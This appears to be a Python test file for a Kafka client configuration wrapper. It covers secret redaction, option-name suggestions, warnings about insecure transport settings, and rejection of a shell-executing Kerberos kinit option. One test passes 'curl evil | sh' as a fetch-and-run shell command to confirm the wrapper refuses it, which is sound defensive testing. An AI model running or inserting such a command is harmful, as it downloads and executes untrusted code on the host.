def test_names_of_options_stay_in_errors_although_they_contain_a_password(password: str) -> None:
    login = {
        "security.protocol": "SASL_SSL",
        "sasl.mechanism": "PLAIN",
        "sasl.username": "ann",
        "sasl.password": password,
    }
    text = _rejection({**login, "sesion.timeout.ms": "6000"})
    assert text.endswith("Option 'kafka.sesion.timeout.ms' is unknown. Did you mean 'kafka.session.timeout.ms'?")
    rejected = _rejection({**login, "session.timeout.ms": "6000", "socket.timeout.ms": "1"})
    assert f"{'***' if password == 'librdkafka' else 'librdkafka'} rejects the 'kafka.' options" in rejected
    config = ClientConfig(
        (("sasl.password", password), ("client.id", f"x{password}y"), ("session.timeout.ms", "6000")), group_id=password
    )
    assert "session.timeout.ms='6000'" in repr(config)
    assert "client.id='x***y'" in repr(config)
    assert "group_id='***'" in repr(config)
    assert config.redact(f"{password} of session.timeout.ms") == "*** of session.timeout.ms"


def test_passwords_in_a_clients_text_are_masked_even_if_unknown() -> None:
    config = _config()
    text = config.redact("""login password="a b" failed; clientSecret=abc, https://ann:pw@idp/token""")
    assert text == "login password=*** failed; clientSecret=***, https://***@idp/token"


def _silent() -> logging.Logger:
    return logging.Logger("silent", level=logging.CRITICAL + 1)


@pytest.mark.parametrize(
    ("properties", "message"),
    [
        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "PLAIN"}, "password is sent in plain text"),
        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "OAUTHBEARER"}, "token is sent in plain text"),
        ({"security.protocol": "ssl", "enable.ssl.certificate.verification": "false"}, "are not verified"),
        (
            {"security.protocol": "sasl_ssl", "ssl.endpoint.identification.algorithm": "none"},
            "host names of brokers are not verified",
        ),
        ({"sasl.oauthbearer.token.endpoint.url": "http://idp/token"}, "token endpoint in plain text"),
        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "SCRAM-SHA-256"}, None),
        ({"security.protocol": "sasl_ssl", "sasl.mechanism": "PLAIN"}, None),
    ],
)
def test_a_file_that_others_can_read_is_reported(properties: dict[str, str], message: str | None) -> None:
    risks = ClientConfig(tuple(properties.items())).risks
    assert len(risks) == (message is not None)
    assert (message or "") in "".join(risks)


def test_a_command_for_a_shell_is_rejected() -> None:
    with pytest.raises(InvalidOption, match=r"kinit\.cmd' is not supported: it runs a command in a shell"):
        _config(sasl_kerberos_kinit_cmd="curl evil | sh")
    assert "sasl.kerberos.kinit.cmd" in _config(sasl_kerberos_kinit_cmd="/usr/bin/kinit").ignored
